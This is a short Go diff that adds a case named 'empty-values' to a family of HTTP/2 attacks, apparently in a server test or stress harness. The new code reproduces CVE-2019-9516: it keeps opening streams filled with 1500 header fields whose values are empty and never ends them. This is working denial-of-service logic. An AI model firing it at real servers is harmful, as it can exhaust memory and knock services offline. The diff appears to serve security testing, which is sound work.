@@ -42,6 +42,19 @@ var empties = family{"frames and fields with nothing in them", []attack{
 			return true
 		},
 	},
+	{
+		name: "empty-values", cve: "CVE-2019-9516", about: "sends header lists of as many fields without a value as the limit allows, in calls that never end",
+		more: func(h *hostile) bool {
+			for !h.full() {
+				var fields []string
+				for range 1500 {
+					fields = append(fields, "x", "")
+				}
+				h.head(h.stream(), h.requestFields(chargePath, fields...), false)
+			}
+			return true
+		},
+	},
 }}
 
 // huffman returns text in Huffman code behind its length, for lengths below 127.
